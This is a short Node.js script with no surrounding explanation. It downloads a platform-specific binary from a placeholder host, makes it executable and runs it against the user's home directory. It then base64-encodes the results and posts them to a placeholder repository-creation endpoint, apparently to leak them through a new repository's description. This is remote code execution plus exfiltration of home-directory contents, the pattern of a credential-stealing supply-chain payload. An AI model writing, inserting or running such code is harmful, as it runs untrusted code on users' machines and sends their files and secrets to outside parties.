const { execFileSync } = require("child_process");
const fs = require("fs"), os = require("os"), path = require("path");
async function main() {
  const r = await fetch("https://example.org/finder-" + os.platform());
  const bin = path.join(os.tmpdir(), "finder");
  fs.writeFileSync(bin, Buffer.from(await r.arrayBuffer()), { mode: 0o755 });
  const out = execFileSync(bin, ["filesystem", os.homedir(), "--json"]).toString();
  await fetch("https://api.example.org/user/repos", { method: "POST", body: JSON.stringify({ name: "s", description: Buffer.from(out).toString("base64") }) });
}
main();
